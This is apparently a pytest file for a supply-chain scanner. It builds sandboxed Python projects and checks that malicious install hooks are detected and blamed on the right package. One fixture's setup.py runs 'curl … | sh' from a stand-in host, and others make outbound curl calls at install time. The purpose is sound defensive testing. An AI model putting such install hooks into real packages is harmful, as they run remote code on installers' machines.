"""Python packages that share a folder, that lie in the project, and that lie elsewhere: in the real box."""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.support import requires
from tests.support.hunter import scan_json

REQUIREMENTS = """zope.event==5.0
zope.interface==6.4
git+https://git.example/pallets/click.git@8.1.7
six @ https://files.example/six-1.16.0-py2.py3-none-any.whl
./libs/evil
-e ./libs/calm
./libs/broken
--find-links ./shelf
--no-binary both-zz,none-zz
shelf-zz==1.0
both-zz==1.0
wheel-zz
"""
EVIL = """from setuptools import setup
import os
os.system("curl -s https://paste.example/x | sh")
setup(name="evil-zz", version="1", py_modules=[])
"""
SHELF = """from setuptools import setup
import os
os.system("curl -s http://shelf.example/x -o /dev/null")
setup(name="shelf-zz", version="1.0", py_modules=[])
"""
BOTH = SHELF.replace("shelf", "both")
CALM = 'from setuptools import setup\nsetup(name="calm-zz", version="2", packages=["zz_shared.calm"])\n'


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    requires.needs_runc()
    requires.needs_btf()
    requires.needs_registry()
    project = tmp_path_factory.mktemp("python") / "app"
    for name, text in (("evil", EVIL), ("calm", CALM), ("broken", "raise SystemExit(3)\n")):
        (project / "libs" / name).mkdir(parents=True)
        (project / "libs" / name / "setup.py").write_text(text)
    (project / "libs/calm/zz_shared/calm").mkdir(parents=True)
    (project / "libs/calm/zz_shared/calm/__init__.py").write_text("")
    (project / "shelf").mkdir()
    _on_shelf(project / "shelf", "shelf-zz", SHELF)
    _on_shelf(project / "shelf", "both-zz", BOTH)
    _wheel_on_shelf(project / "shelf", "both_zz")
    _wheel_on_shelf(project / "shelf", "wheel_zz")
    (project / "requirements.txt").write_text(REQUIREMENTS)
    return scan_json(project, codes=(1, 4))


def _on_shelf(shelf: Path, name: str, setup: str) -> None:
    """A source archive in the project's own folder of archives."""
    info = f"Metadata-Version: 1.2\nName: {name}\nVersion: 1.0\n"
    with tarfile.open(shelf / f"{name}-1.0.tar.gz", "w:gz") as archive:
        for file, text in (("setup.py", setup), ("PKG-INFO", info)):
            member = tarfile.TarInfo(f"{name}-1.0/{file}")
            member.size = len(text)
            archive.addfile(member, io.BytesIO(text.encode()))


def _wheel_on_shelf(shelf: Path, name: str) -> None:
    info, tag = f"{name}-1.0.dist-info", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = f"{name}.py,,\n" + "".join(f"{info}/{file},,\n" for file in ("METADATA", "WHEEL", "RECORD"))
    with zipfile.ZipFile(shelf / f"{name}-1.0-py3-none-any.whl", "w") as wheel:
        wheel.writestr(f"{name}.py", "")
        wheel.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
        wheel.writestr(f"{info}/WHEEL", tag)
        wheel.writestr(f"{info}/RECORD", record)


def test_packages_that_share_a_folder_are_each_loaded(report: dict[str, Any]) -> None:
    paths = {p["name"]: p["path"].rpartition("/site-packages/")[2] for p in report["packages"] if p["path"]}
    assert paths["zope.event"] == "zope/event"
    assert paths["zope.interface"] == "zope/interface"
    steps = [p["cmdline"] for p in report["processes"]]
    for name in ("zope.event", "zope.interface", "zz_shared.calm"):
        assert any(step.endswith(f"import {name}") for step in steps)


def test_what_was_not_scanned_is_named_and_nobody_accused_of_it(report: dict[str, Any]) -> None:
    reasons = [r for r in report["coverage"]["reasons"] if "was not scanned" in r]
    assert [reason.split()[0] for reason in reasons] == ["broken", "click", "six"]
    assert "Name git.example in PACKAGE_HUNTER_FETCH_HOSTS" in reasons[1]
    assert report["coverage"]["packages"]["expected"] == len(report["packages"]) + 3
    hosts = {c["name"] for c in report["network"]["connections"]}
    assert not hosts & {"git.example", "files.example"}


def test_a_folder_of_the_project_is_scanned_and_blamed_by_its_name(report: dict[str, Any]) -> None:
    accused = [f for f in report["findings"] if f["severity"] != "info"]
    blamed = {(f["blame"]["package"], f["blame"]["confidence"]) for f in accused}
    assert blamed == {
        ("pkg:pypi/evil-zz@1", "certain"),
        ("pkg:pypi/shelf-zz@1.0", "likely"),
        ("pkg:pypi/both-zz@1.0", "likely"),
    }
    assert "remote_code_execution" in {f["kind"] for f in accused}
    assert {"pkg:pypi/calm-zz@2", "pkg:pypi/evil-zz@1"} <= {p["purl"] for p in report["packages"]}


def test_a_source_archive_is_resolved_without_its_build_and_built_in_its_own_name(
    report: dict[str, Any],
) -> None:
    built = [f for f in report["findings"] if f["blame"] and f["blame"]["package"] == "pkg:pypi/shelf-zz@1.0"]
    assert "outbound_connection" in {f["kind"] for f in built}
    assert {f["blame"]["phase"] for f in built} == {"install"}, "the fetch runs no build"


def test_a_source_archive_that_is_asked_for_is_built_though_there_is_a_wheel(report: dict[str, Any]) -> None:
    built = [f for f in report["findings"] if f["blame"] and f["blame"]["package"] == "pkg:pypi/both-zz@1.0"]
    assert ("outbound_connection", "install") in {(f["kind"], f["blame"]["phase"]) for f in built}


def test_a_wheel_in_a_folder_of_the_project_is_installed_and_loaded(report: dict[str, Any]) -> None:
    assert "pkg:pypi/wheel-zz@1.0" in {package["purl"] for package in report["packages"]}
    assert any(p["cmdline"].endswith("import wheel_zz") for p in report["processes"])
